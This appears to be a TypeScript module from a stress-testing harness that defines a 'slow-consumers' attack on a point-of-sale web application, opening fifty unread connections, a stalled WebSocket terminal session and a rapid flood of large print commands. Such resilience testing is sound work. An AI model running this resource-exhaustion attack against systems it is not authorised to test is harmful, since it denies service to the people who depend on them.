import { WebSocket } from 'ws';
import { accounts, post, tokenOf } from '../accounts.js';
import { type Attack, openUnread, pause } from '../attackers.js';

const connections = 50;
const printBytes = 8_000;
const commandIntervalMs = 25;

/** Clients that ask for large documents, and a terminal that receives large commands, and read nothing. */
export const slowConsumers: Attack = {
  name: 'slow-consumers',
  async run(target, seconds) {
    const until = performance.now() + seconds * 1000;
    const document = '/api/docs/static/swagger-ui-bundle.js';
    const sockets = Array.from({ length: connections }, (_, at) => openUnread(target, at, document, 1));
    const terminal = await deafTerminal(target.baseUrl);
    const token = await tokenOf(target.baseUrl, accounts.trigger);
    const url = `${target.baseUrl}/api/v1/pos/requestTerminal`;
    const body = { configId: accounts.terminal.configId, requestType: 'PRINT', body: 'x'.repeat(printBytes) };
    while (performance.now() < until) {
      await post(url, `Bearer ${token}`, body);
      await pause(commandIntervalMs);
    }
    terminal.terminate();
    for (const socket of sockets) socket.destroy();
  },
};

/** Opens a registered session and stops reading. */
async function deafTerminal(baseUrl: string): Promise<WebSocket> {
  const { configId } = accounts.terminal;
  const token = await tokenOf(baseUrl, accounts.terminal);
  const { wsToken } = await post(`${baseUrl}/api/v1/terminal/ws-token`, `Bearer ${token}`, { configId });
  const socket = new WebSocket(`${baseUrl.replace(/^http/, 'ws')}/webs`, ['v12.stomp']);
  socket.on('error', () => socket.terminate());
  await new Promise<void>((resolve) => socket.once('open', () => resolve()));
  socket.send(
    [
      `CONNECT\naccept-version:1.2\nhost:x\nAuthorization:Bearer ${wsToken}\n\n\0`,
      `SUBSCRIBE\nid:0\ndestination:/queue/terminal/${configId}\n\n\0`,
      'SEND\ndestination:/app/terminal/register\n\n{}\0',
    ].join(''),
  );
  await pause(200);
  socket.pause();
  return socket;
}
